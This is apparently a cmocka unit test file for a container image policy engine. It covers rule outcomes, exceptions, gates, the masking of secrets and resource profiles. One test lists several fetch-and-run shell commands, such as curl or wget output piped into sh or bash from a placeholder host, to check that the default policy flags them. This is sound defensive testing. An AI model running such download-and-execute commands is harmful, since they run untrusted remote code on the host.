#include "base/time.h"
#include "policy/judge.h"
#include "policy/rules.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#define NOW INT64_C(1800000000) /* 2027-01-15 */

static const char *const none[] = {NULL};

/* Two packages, the first with two vulnerabilities: one rated and fixable, one unrated. */
static struct bh_facts *an_image(void)
{
    struct bh_facts *f = bh_facts_new();
    struct bh_vulnerability *v;
    struct bh_package *p;

    f->config.known = true;
    f->config.user = "";
    f->config.env = f->config.cmd = f->config.entrypoint = none;
    f->target.digest = "sha256:abc";
    f->target.reference = "oci:x";
    p = bh_facts_add_package(f);
    p->name = "openssl";
    p->version = "3.0.1";
    p->type = "deb";
    p = bh_facts_add_package(f);
    p->name = "bash";
    p->version = "5.2";
    p->type = "deb";
    v = bh_facts_add_vulnerability(f);
    v->id = "CVE-1";
    v->aliases = none;
    v->severity = BH_SEVERITY_CRITICAL;
    v->installed = "3.0.1";
    v->fixed = "3.0.2";
    v = bh_facts_add_vulnerability(f);
    v->id = "CVE-2";
    v->aliases = none;
    v->installed = "3.0.1";
    return f;
}

static struct bh_policy *policy(const char *text)
{
    struct bh_policy *p = bh_policy_new();
    struct bh_error err = BH_ERROR_INIT;

    if (bh_policy_add_text(p, "p.yaml", text, strlen(text), &err) < 0 ||
        bh_policy_finish(p, &err) < 0)
        fail_msg("%s", err.message);
    return p;
}

static void the_outcome_follows_from_what_is_known(void **state)
{
    static const struct {
        const char *condition, *action, *unknown;
        bool blind;
        size_t spoke, matches;
        enum bh_outcome outcome;
        enum bh_action verdict;
    } cases[] = {
        {"vuln.severity = critical", "deny", "", false, 1, 1, BH_OUTCOME_MATCHED, BH_ACTION_DENY},
        {"vuln.severity = critical", "warn", "", false, 1, 1, BH_OUTCOME_MATCHED, BH_ACTION_WARN},
        {"vuln.severity = critical", "allow", "", false, 1, 1, BH_OUTCOME_MATCHED, BH_ACTION_ALLOW},
        /* nobody rated the second one */
        {"vuln.severity = low", "deny", "", false, 1, 1, BH_OUTCOME_UNKNOWN, BH_ACTION_DENY},
        {"vuln.severity = low", "warn", "", false, 1, 1, BH_OUTCOME_UNKNOWN, BH_ACTION_WARN},
        {"vuln.severity = low", "deny", "  unknown: warn\n", false, 1, 1, BH_OUTCOME_UNKNOWN,
         BH_ACTION_WARN},
        {"vuln.severity = low", "deny", "  unknown: allow\n", false, 1, 1, BH_OUTCOME_UNKNOWN,
         BH_ACTION_ALLOW},
        {"vuln.severity = low and vuln.fixed = true", "deny", "", false, 0, 0, 0, BH_ACTION_ALLOW},
        /* the list of vulnerabilities may lack entries */
        {"vuln.id = CVE-9", "deny", "", false, 0, 0, 0, BH_ACTION_ALLOW},
        {"vuln.id = CVE-9", "deny", "", true, 1, 0, BH_OUTCOME_UNKNOWN, BH_ACTION_DENY},
        {"vuln.id = CVE-1", "deny", "", true, 1, 1, BH_OUTCOME_MATCHED, BH_ACTION_DENY},
        {"package.name = bash", "deny", "", true, 1, 1, BH_OUTCOME_MATCHED, BH_ACTION_DENY},
        {"package.name = zsh", "deny", "", true, 0, 0, 0, BH_ACTION_ALLOW},
        {"image.vulns_checked = false", "warn", "", true, 1, 1, BH_OUTCOME_MATCHED, BH_ACTION_WARN},
        {"image.package_count = 2", "warn", "", false, 1, 1, BH_OUTCOME_MATCHED, BH_ACTION_WARN},
    };

    (void)state;
    for (size_t i = 0; i < BH_COUNT_OF(cases); i++) {
        BH_AUTO(bh_facts_freep) struct bh_facts *f = an_image();
        BH_AUTO(bh_freep)
        char *text = bh_format("- rule: r\n  condition: %s\n  gate: run\n  action: %s\n%s",
                               cases[i].condition, cases[i].action, cases[i].unknown);
        BH_AUTO(bh_policy_freep) struct bh_policy *p = policy(text);
        BH_AUTO(bh_verdict_freep) struct bh_verdict *v = NULL;

        if (cases[i].blind)
            bh_facts_not_covered(f, BH_SUBJECT_VULNERABILITIES, NULL, BH_LAYER_NONE, true,
                                 "no database");
        v = bh_policy_judge(p, BH_GATE_RUN, f, NOW);
        if (v->action != cases[i].verdict || v->rule_count != cases[i].spoke ||
            (v->rule_count && (v->rules[0].outcome != cases[i].outcome ||
                               v->rules[0].match_count != cases[i].matches)))
            fail_msg("%s, blind %d: verdict %d, %zu rules", text, cases[i].blind, v->action,
                     v->rule_count);
        if (cases[i].blind && v->rule_count && v->rules[0].outcome == BH_OUTCOME_UNKNOWN)
            assert_non_null(strstr(v->rules[0].missing[0], "no database"));
    }
}

static void a_rule_is_asked_at_its_gates_only(void **state)
{
    BH_AUTO(bh_facts_freep) struct bh_facts *f = an_image();
    BH_AUTO(bh_policy_freep)
    struct bh_policy *p = policy("- rule: r\n  condition: vuln.id exists\n  gate: [push, admit]\n"
                                 "  action: deny\n"
                                 "- rule: off\n  condition: vuln.id exists\n  gate: run\n"
                                 "  action: deny\n  enabled: false\n");

    (void)state;
    for (int g = 0; g < BH_GATE_COUNT; g++) {
        BH_AUTO(bh_verdict_freep)
        struct bh_verdict *v = bh_policy_judge(p, (enum bh_gate)g, f, NOW);

        assert_int_equal(v->action, g == BH_GATE_PUSH || g == BH_GATE_ADMIT ? BH_ACTION_DENY
                                                                            : BH_ACTION_ALLOW);
    }
}

static void the_message_and_the_deciding_facts_are_kept(void **state)
{
    BH_AUTO(bh_facts_freep) struct bh_facts *f = an_image();
    BH_AUTO(bh_policy_freep)
    struct bh_policy *p = policy(
        "- rule: r\n  desc: d\n  condition: vuln.severity = critical and package.name = openssl\n"
        "  output: \"100% of %vuln.id in %package.name. Fix %vuln.fix, %nothing.here "
        "%vuln.published\"\n"
        "  gate: run\n  action: deny\n");
    BH_AUTO(bh_verdict_freep) struct bh_verdict *v = bh_policy_judge(p, BH_GATE_RUN, f, NOW);
    const struct bh_verdict_match *m = &v->rules[0].matches[0];

    (void)state;
    assert_string_equal(m->message, "100% of CVE-1 in openssl. Fix 3.0.2, %nothing.here (none)");
    assert_int_equal(m->fact_count, 2);
    assert_string_equal(m->facts[0].field, "vuln.severity");
    assert_string_equal(m->facts[0].value, "critical");
    assert_string_equal(m->facts[1].field, "package.name");
    assert_string_equal(m->exception, "vuln.id = \"CVE-1\" and package.name = \"openssl\"");
    assert_string_equal(v->rules[0].file, "p.yaml");
    assert_int_equal(v->rules[0].line, 1);
}

static void values_of_the_environment_are_never_told(void **state)
{
    static const char *const env[] = {"PATH=/bin", "TOKEN=s3cr3t", NULL};
    BH_AUTO(bh_facts_freep) struct bh_facts *f = an_image();
    BH_AUTO(bh_policy_freep)
    struct bh_policy *p =
        policy("- rule: r\n  desc: d\n"
               "  condition: config.env contains s3 and config.env[TOKEN] exists\n"
               "  output: \"%config.env\"\n  gate: run\n  action: warn\n");
    BH_AUTO(bh_verdict_freep) struct bh_verdict *v = NULL;
    const struct bh_verdict_match *m;

    (void)state;
    f->config.env = env;
    v = bh_policy_judge(p, BH_GATE_RUN, f, NOW);
    m = &v->rules[0].matches[0];
    assert_string_equal(m->message, "PATH=(hidden) TOKEN=(hidden)");
    assert_string_equal(m->facts[0].value, "PATH=(hidden) TOKEN=(hidden)");
    assert_string_equal(m->facts[1].field, "config.env[TOKEN]");
    assert_string_equal(m->facts[1].value, "(hidden)");
}

static void an_exception_excuses_its_record_until_it_expires(void **state)
{
    static const struct {
        const char *expires, *condition;
        enum bh_action verdict;
        enum bh_outcome outcome;
        bool expired;
    } cases[] = {
        {"2027-01-15", "vuln.id = CVE-1", BH_ACTION_ALLOW, BH_OUTCOME_EXCEPTED, false},
        {"2027-01-14", "vuln.id = CVE-1", BH_ACTION_DENY, BH_OUTCOME_MATCHED, true},
        {"2030-01-01", "vuln.id = CVE-2", BH_ACTION_DENY, BH_OUTCOME_MATCHED, false},
        /* an exception that cannot be decided excuses nothing */
        {"2030-01-01", "vuln.published exists and vuln.age_days < 1", BH_ACTION_DENY,
         BH_OUTCOME_MATCHED, false},
    };

    (void)state;
    for (size_t i = 0; i < BH_COUNT_OF(cases); i++) {
        BH_AUTO(bh_facts_freep) struct bh_facts *f = an_image();
        BH_AUTO(bh_freep)
        char *text = bh_format("- rule: r\n  condition: vuln.severity = critical\n  gate: run\n"
                               "  action: deny\n  exceptions:\n    - name: e\n      condition: %s\n"
                               "      reason: why\n      owner: me\n      expires: %s\n",
                               cases[i].condition, cases[i].expires);
        BH_AUTO(bh_policy_freep) struct bh_policy *p = policy(text);
        BH_AUTO(bh_verdict_freep) struct bh_verdict *v = NULL;

        f->vulnerabilities[1].severity = BH_SEVERITY_LOW;
        v = bh_policy_judge(p, BH_GATE_RUN, f, NOW);
        assert_int_equal(v->action, cases[i].verdict);
        assert_int_equal(v->rule_count, 1);
        assert_int_equal(v->rules[0].outcome, cases[i].outcome);
        if (strcmp(cases[i].condition, "vuln.id = CVE-1") == 0) {
            assert_int_equal(v->rules[0].exception_count, 1);
            assert_int_equal(v->rules[0].exceptions[0].expired, cases[i].expired);
            assert_string_equal(v->rules[0].exceptions[0].owner, "me");
        } else {
            assert_int_equal(v->rules[0].exception_count, 0);
        }
    }
}

static void the_worst_rule_comes_first(void **state)
{
    BH_AUTO(bh_facts_freep) struct bh_facts *f = an_image();
    BH_AUTO(bh_policy_freep)
    struct bh_policy *p =
        policy("- rule: a\n  condition: vuln.id exists\n  gate: run\n  action: allow\n"
               "- rule: w\n  condition: vuln.id exists\n  gate: run\n  action: warn\n"
               "- rule: d\n  condition: vuln.id exists\n  gate: run\n  action: deny\n"
               "- rule: w2\n  condition: vuln.id exists\n  gate: run\n  action: warn\n");
    BH_AUTO(bh_verdict_freep) struct bh_verdict *v = bh_policy_judge(p, BH_GATE_RUN, f, NOW);
    const char *order[] = {"d", "w", "w2", "a"};

    (void)state;
    assert_int_equal(v->rule_count, 4);
    for (size_t i = 0; i < 4; i++)
        assert_string_equal(v->rules[i].name, order[i]);
    assert_int_equal(v->evaluated, 4);
    assert_true(strncmp(v->policy_digest, "sha256:", 7) == 0);
}

static void explaining_lists_the_silent_rules_too(void **state)
{
    BH_AUTO(bh_facts_freep) struct bh_facts *f = an_image();
    BH_AUTO(bh_policy_freep)
    struct bh_policy *p =
        policy("- rule: v\n  condition: vuln.id = x\n  gate: run\n  action: deny\n"
               "- rule: i\n  condition: image.package_count > 5\n  gate: run\n  action: deny\n");
    BH_AUTO(bh_verdict_freep) struct bh_verdict *v = bh_policy_judge_all(p, BH_GATE_RUN, f, NOW);

    (void)state;
    assert_int_equal(v->action, BH_ACTION_ALLOW);
    assert_int_equal(v->rule_count, 2);
    assert_int_equal(v->rules[0].outcome, BH_OUTCOME_PASSED);
    assert_int_equal(v->rules[0].record_count, 2);
    assert_string_equal(v->rules[1].matches[0].facts[0].value, "2");
}

static void many_matches_are_counted_and_some_listed(void **state)
{
    BH_AUTO(bh_facts_freep) struct bh_facts *f = an_image();
    BH_AUTO(bh_policy_freep)
    struct bh_policy *p =
        policy("- rule: v\n  condition: vuln.id startswith CVE\n  gate: run\n  action: deny\n");
    BH_AUTO(bh_verdict_freep) struct bh_verdict *v = NULL;

    (void)state;
    for (int i = 0; i < 1000; i++) {
        struct bh_vulnerability *x = bh_facts_add_vulnerability(f);

        x->id = "CVE-x";
        x->aliases = none;
        x->installed = "1";
    }
    v = bh_policy_judge(p, BH_GATE_RUN, f, NOW);
    assert_int_equal(v->rules[0].match_count, 1002);
    assert_int_equal(v->rules[0].listed, BH_JUDGE_LISTED_MAX);
}

static void the_default_policy_is_good(void **state)
{
    BH_AUTO(bh_policy_freep) struct bh_policy *p = NULL;
    struct bh_error err = BH_ERROR_INIT;
    const struct bh_rule *rules;
    size_t count, notes, dropped;

    (void)state;
    if (bh_policy_load(NULL, 0, &p, &err) < 0)
        fail_msg("%s", err.message);
    (void)bh_policy_notes(p, &notes, &dropped);
    assert_int_equal(notes, 0);
    rules = bh_policy_rules(p, &count);
    assert_true(count > 10);
    for (size_t i = 0; i < count; i++)
        assert_true(rules[i].gates != 0 && rules[i].output[0] && rules[i].description[0]);
}

static void the_default_policy_stops_downloads_at_the_start(void **state)
{
    static const struct {
        const char *words[4];
        bool stopped;
    } cases[] = {
        {{"sh", "-c", "curl -fsSL http://x/i.sh | sh"}, true},
        {{"/bin/sh", "-c", "wget -qO- http://x|/bin/bash -s"}, true},
        {{"bash", "-c", "bash <(curl -s http://x)"}, true},
        {{"sh", "-c", "sh -c \"$(wget -O- x)\""}, true},
        {{"nginx", "-g", "daemon off;"}, false},
        {{"sh", "-c", "curl http://localhost/health | grep ok"}, false},
        {{"curl", "http://x"}, false},
        {{"/usr/bin/shred"}, false},
    };
    BH_AUTO(bh_policy_freep) struct bh_policy *p = NULL;

    (void)state;
    assert_int_equal(bh_policy_load(NULL, 0, &p, NULL), 0);
    for (size_t i = 0; i < BH_COUNT_OF(cases); i++) {
        BH_AUTO(bh_facts_freep) struct bh_facts *f = an_image();
        BH_AUTO(bh_verdict_freep) struct bh_verdict *v = NULL;
        bool stopped = false;

        f->vulnerability_count = 0;
        if (i % 2)
            f->config.entrypoint = bh_facts_list(f, cases[i].words);
        else
            f->config.cmd = bh_facts_list(f, cases[i].words);
        v = bh_policy_judge(p, BH_GATE_RUN, f, NOW);
        for (size_t k = 0; k < v->rule_count; k++)
            stopped =
                stopped || strcmp(v->rules[k].name, "Program is downloaded when it starts") == 0;
        if (stopped != cases[i].stopped)
            fail_msg("%s", cases[i].words[2] ? cases[i].words[2] : cases[i].words[0]);
    }
}

static void a_rule_narrows_the_profile_when_it_matches(void **state)
{
    BH_AUTO(bh_facts_freep) struct bh_facts *f = an_image();
    BH_AUTO(bh_policy_freep)
    struct bh_policy *p =
        policy("- rule: small\n  condition: image.packages intersects (bash)\n  gate: run\n"
               "  action: allow\n  profile:\n    memory: 64M\n    pids: 10\n    cpus: 0.5\n"
               "    open_files: 100\n    capabilities: [NET_BIND_SERVICE]\n    read_only: true\n"
               "    deny_syscalls: [unlink, rename]\n"
               "- rule: other\n  condition: image.packages intersects (zsh)\n  gate: run\n"
               "  action: allow\n  profile: {memory: 1M}\n");
    BH_AUTO(bh_verdict_freep) struct bh_verdict *v = bh_policy_judge_all(p, BH_GATE_RUN, f, NOW);
    const struct bh_tightening *t = v->rules[0].profile;

    (void)state;
    assert_non_null(t);
    assert_int_equal(t->memory_bytes, 64 << 20);
    assert_int_equal(t->pids, 10);
    assert_int_equal(t->cpu_milli, 500);
    assert_int_equal(t->open_files, 100);
    assert_true(t->keeps_capabilities && t->read_only);
    assert_int_equal(t->capabilities, 1u << 10);
    assert_string_equal(t->deny_calls[1], "rename");
    assert_null(v->rules[1].profile);
}

static void faults_of_a_profile_are_told(void **state)
{
    static const struct {
        const char *profile, *says;
    } cases[] = {
        {"{memory: lots}", "memory is a size"},
        {"{pids: -1}", "whole numbers above 0"},
        {"{cpus: 0}", "from 0.01 to 1000"},
        {"{capabilities: [NET_BIND]}", "no capability"},
        {"{deny_syscalls: [unlnk]}", "did you mean 'unlink'"},
        {"{read_only: false}", "never widened"},
        {"{memmory: 1M}", "did you mean 'memory'"},
        {"64M", "expected keys"},
    };

    (void)state;
    for (size_t i = 0; i < BH_COUNT_OF(cases); i++) {
        BH_AUTO(bh_policy_freep) struct bh_policy *p = bh_policy_new();
        struct bh_error err = BH_ERROR_INIT;
        BH_AUTO(bh_freep)
        char *text = bh_format("- rule: r\n  condition: image.packages exists\n  gate: run\n"
                               "  action: allow\n  profile: %s\n",
                               cases[i].profile);

        assert_int_equal(bh_policy_add_text(p, "p.yaml", text, strlen(text), &err), 0);
        assert_int_equal(bh_policy_finish(p, &err), -BH_INVALID);
        if (!strstr(err.message, cases[i].says) || !strstr(err.message, "p.yaml:5:"))
            fail_msg("%s: %s", cases[i].profile, err.message);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_outcome_follows_from_what_is_known),
        cmocka_unit_test(a_rule_is_asked_at_its_gates_only),
        cmocka_unit_test(the_message_and_the_deciding_facts_are_kept),
        cmocka_unit_test(values_of_the_environment_are_never_told),
        cmocka_unit_test(an_exception_excuses_its_record_until_it_expires),
        cmocka_unit_test(the_worst_rule_comes_first),
        cmocka_unit_test(explaining_lists_the_silent_rules_too),
        cmocka_unit_test(many_matches_are_counted_and_some_listed),
        cmocka_unit_test(the_default_policy_is_good),
        cmocka_unit_test(the_default_policy_stops_downloads_at_the_start),
        cmocka_unit_test(a_rule_narrows_the_profile_when_it_matches),
        cmocka_unit_test(faults_of_a_profile_are_told),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
